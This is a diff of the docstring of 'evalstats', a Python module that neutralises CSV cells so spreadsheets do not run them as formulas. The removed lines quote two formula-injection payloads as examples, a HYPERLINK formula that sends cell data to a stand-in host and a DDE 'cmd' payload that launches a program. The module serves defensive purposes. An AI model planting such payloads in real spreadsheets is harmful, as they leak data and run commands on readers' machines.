@@ -1,14 +1,7 @@
 """CSV cells a spreadsheet will not execute: the one rule for every CSV evalstats writes.
 
-A spreadsheet opening a CSV evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@``
-(and, in some, a tab or carriage return) as a formula: agent text such as
-``=HYPERLINK("http://x/?"&A1, "see")`` or ``+cmd|' /C calc'!A0`` runs on the reader's
-machine. :func:`neutralise_cell` prefixes such a cell with ``'`` (shown as text, the OWASP
-rule); a cell that already starts with ``'`` gets one more, so :func:`restore_cell` undoes it
-exactly. Plain numbers (``-0.25``, ``+3e-4``) are left alone: no spreadsheet runs them.
-
-Every writer of a CSV a person may open calls :func:`safe_frame` (or :func:`safe_csv`) on
-the frame it writes; a reader of a CSV evalstats wrote calls :func:`restore_frame`.
+Writers call :func:`safe_frame` (or :func:`safe_csv`), readers :func:`restore_frame`; the rule
+is in docs/data.md (CSV cells).
 """
 
 from __future__ import annotations
